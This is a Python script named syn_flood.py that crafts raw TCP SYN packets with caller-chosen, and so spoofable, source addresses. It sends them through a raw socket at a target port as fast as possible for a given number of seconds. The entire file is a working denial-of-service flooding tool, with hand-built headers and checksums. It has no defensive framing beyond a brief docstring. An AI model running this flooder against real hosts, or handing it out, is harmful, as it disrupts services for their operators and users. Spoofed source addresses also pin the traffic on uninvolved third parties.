# SPDX-License-Identifier: ISC
"""SYNs to a closed port, as many as it can, for some seconds: syn_flood.py SECONDS PORT TARGET SOURCE..."""
import itertools
import socket
import struct
import sys
import time

BURST = 256


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def syn(source, target, sport, port):
    """An IPv4 packet; the kernel fills in its length and header checksum."""
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    tcp = struct.pack("!HHIIBBHHH", sport, port, 12345, 0, 5 << 4, 2, 65535, 0, 0)
    tcp = tcp[:16] + struct.pack("!H", checksum(ends + struct.pack("!HH", 6, len(tcp)) + tcp)) + tcp[18:]
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0) + ends + tcp


def main(seconds, port, target, *sources):
    packets = [syn(source, target, sport, port) for source in sources for sport in range(20000, 20000 + 2048)]
    end, sent = time.monotonic() + seconds, 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for packet in itertools.cycle(packets):
            raw.sendto(packet, (target, 0))
            sent += 1
            if sent % BURST == 0 and time.monotonic() > end:
                break
    print(sent)


if __name__ == "__main__":
    main(float(sys.argv[1]), int(sys.argv[2]), *sys.argv[3:])
